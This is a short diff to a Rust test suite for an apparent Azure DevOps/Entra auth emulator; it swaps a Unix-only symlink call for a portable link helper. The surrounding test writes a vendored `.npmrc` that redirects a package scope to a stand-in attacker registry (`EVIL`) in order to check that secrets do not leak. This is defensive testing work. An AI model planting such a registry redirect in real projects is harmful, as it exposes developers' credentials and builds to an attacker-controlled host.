@@ -4,6 +4,7 @@ use ado_entra_auth_emulator::Emulator;
 use ado_entra_auth_emulator::agent::{Job, StepResult, TaskStep, Variable};
 use ado_entra_auth_emulator::world::{CLIENT, Challenge, Package};
 
+use crate::modes::link;
 use crate::npm::{FEED, installed};
 use crate::support::{
     EVIL, assert_no_secret_shown, emulator, finish, in_parallel, job, leaks_below, named, run, script, side_by_side,
@@ -140,7 +141,7 @@ fn neither_size_nor_links_hide_a_file() {
             ""
         } else {
             write(&job, "vendor/app/.npmrc", format!("@e:registry=https://{EVIL}/npm/\n{lines}"));
-            std::os::unix::fs::symlink("vendor/app", job.sources().join("web")).unwrap();
+            link("vendor/app", job.sources().join("web")).unwrap();
             "web"
         };
         run_and_install(&emulator, &mut job, &step(), folder, what);
